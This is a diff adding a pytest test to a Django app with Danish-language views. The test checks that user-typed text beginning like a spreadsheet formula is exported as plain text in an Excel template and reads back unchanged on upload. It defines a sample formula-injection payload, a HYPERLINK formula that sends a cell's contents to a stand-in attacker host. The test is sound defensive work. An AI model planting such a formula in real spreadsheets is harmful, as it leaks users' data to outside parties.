@@ -312,3 +312,31 @@ class TestCases:
         response = upload(client, rh, out.getvalue())
         assert response.status_code == 400
         assert "Første række i arket Cases skal være" in response.content.decode()
+
+
+PAYLOAD = '=HYPERLINK("http://angriber.example/?"&A1,"Klik")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_template_never_holds_a_formula_and_reads_back_as_typed(client, editor_rh, rh, start):
+    """Text a contributor typed (wording, narrative, a proposed case) that starts like a formula
+    is text in the downloaded template, and comes back unchanged when uploaded."""
+    text = start + PAYLOAD[1:]
+    rh.items.update(category="on_track", wording="Følger tidsplanen")
+    item = rh.items.first()
+    item.category, item.wording, item.narrative = "on_track", text, text
+    item.save()
+    ProposedCase.objects.create(item=item, title=text[:200], text=text)
+    client.force_login(editor_rh)
+    content = client.get(f"/bidrag/{rh.pk}/excel/").content
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    assert upload(client, rh, content).status_code == 200
+    client.post(f"/bidrag/{rh.pk}/excel/anvend/")
+    item.refresh_from_db()
+    typed = text.strip()  # the upload strips the whitespace around a cell, a tab or CR too
+    assert (item.wording, item.narrative) == (typed, typed)
+    assert ProposedCase.objects.get(item=item).text == typed
